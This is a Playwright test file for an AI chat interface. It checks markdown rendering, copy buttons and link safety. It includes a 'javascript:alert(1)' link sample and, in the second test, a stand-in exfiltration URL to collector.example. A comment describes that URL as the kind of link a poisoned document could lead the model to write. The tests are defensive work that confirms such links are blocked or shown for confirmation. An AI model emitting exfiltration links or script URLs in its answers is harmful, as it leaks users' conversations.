import { expect, test } from "@playwright/test";
import { ChatPage } from "./pages/ChatPage";
import { setScript } from "./support/fake-control";

// The fake Workers AI streams a known markdown answer, so what the page makes of it can be checked.
const ANSWER = [
  "Here is **bold** text and a list:",
  "",
  "- first",
  "- second",
  "",
  "| model | context |",
  "|---|---|",
  "| llama | 131k |",
  "",
  "```ts",
  "const answer: number = 42;",
  "```",
  "",
  "[docs](https://developers.cloudflare.com/workers-ai/) and [mail](mailto:team@example.com) and [trap](javascript:alert(1))",
].join("\n");

test("answers render as markdown: emphasis, lists, GFM tables, highlighted code with a copy button, safe links only", async ({
  page,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await setScript({ text: ANSWER, tokensPerSecond: 400 });
  const chat = new ChatPage(page);
  await chat.goto("/");
  await chat.send("Show me some markdown");
  await chat.waitForAnswer();
  const answer = chat.lastAnswer();

  const bold = answer.getByText("bold", { exact: true });
  expect(Number(await bold.evaluate((el) => getComputedStyle(el).fontWeight))).toBeGreaterThanOrEqual(600);
  await expect(answer.getByRole("listitem")).toHaveText(["first", "second"]);
  await expect(answer.getByRole("table")).toBeVisible();
  await expect(answer.getByRole("cell", { name: "131k" })).toBeVisible();

  // Highlighting runs in a Web Worker and arrives as coloured spans inside the code block.
  const code = answer.locator("pre code, pre").first();
  await expect(code).toContainText("const answer: number = 42;");
  const tokenColours = () =>
    answer
      .locator("pre span[style*='--sdm-c']")
      .evaluateAll((spans) => new Set(spans.map((s) => (s as HTMLElement).style.getPropertyValue("--sdm-c"))).size);
  await expect.poll(tokenColours, { timeout: 15_000 }).toBeGreaterThan(1);
  await answer.getByRole("button", { name: "Copy Code" }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain("const answer: number = 42;");

  // Links open through a confirmation that shows where they lead; a javascript: link is not a link.
  await answer.getByRole("button", { name: "docs" }).click();
  await expect(page.getByText("https://developers.cloudflare.com/workers-ai/")).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(answer.getByRole("button", { name: "mail" })).toBeVisible();
  await expect(answer.getByRole("button", { name: "trap" })).toHaveCount(0);
  await expect(answer.getByRole("link", { name: "trap" })).toHaveCount(0);
  await expect(answer).toContainText("trap [blocked]");
  await expect(answer.locator('[href^="javascript:" i]')).toHaveCount(0);
});

// A poisoned document can make the model write a link whose URL carries the conversation away.
test("a link leaving the app shows its host and whole URL and opens only once confirmed; Cancel stays; a link within the app just opens", async ({
  page,
  context,
  baseURL,
}) => {
  const leak = "https://collector.example/c?q=the%20secret%20plan";
  await context.route("https://collector.example/**", (route) => route.fulfill({ contentType: "text/plain", body: "collected" }));
  // Relative links are dropped by the renderer (Markdown.tsx), so the app's own link is written out whole.
  await setScript({ text: `Read [the source](${leak}) or [your account](${baseURL}/account).`, tokensPerSecond: 400 });
  const chat = new ChatPage(page);
  await chat.goto("/");
  await chat.send("Where is this from?");
  await chat.waitForAnswer();
  const answer = chat.lastAnswer();
  const opened: string[] = [];
  context.on("page", (p) => opened.push(p.url()));
  const appUrl = page.url();

  const link = answer.getByRole("button", { name: "the source" });
  await link.click();
  const dialog = page.getByRole("dialog", { name: "Leave the app for collector.example?" });
  await expect(dialog).toBeVisible();
  await expect(dialog.getByTestId("link-destination")).toHaveText(leak);
  await expect(dialog.getByRole("button", { name: "Cancel" })).toBeFocused();
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await expect(dialog).toHaveCount(0);
  await expect(link).toBeFocused();
  expect(page.url()).toBe(appUrl);
  expect(opened).toEqual([]);

  await link.click();
  const popup = context.waitForEvent("page");
  await dialog.getByRole("button", { name: "Open collector.example" }).click();
  await expect.poll(async () => (await popup).url()).toBe(leak);
  expect(page.url()).toBe(appUrl);
  await (await popup).close();

  const popupWithin = context.waitForEvent("page");
  await answer.getByRole("button", { name: "your account" }).click();
  await expect(page.getByRole("dialog")).toHaveCount(0);
  await expect.poll(async () => new URL((await popupWithin).url()).pathname).toBe("/account");
});
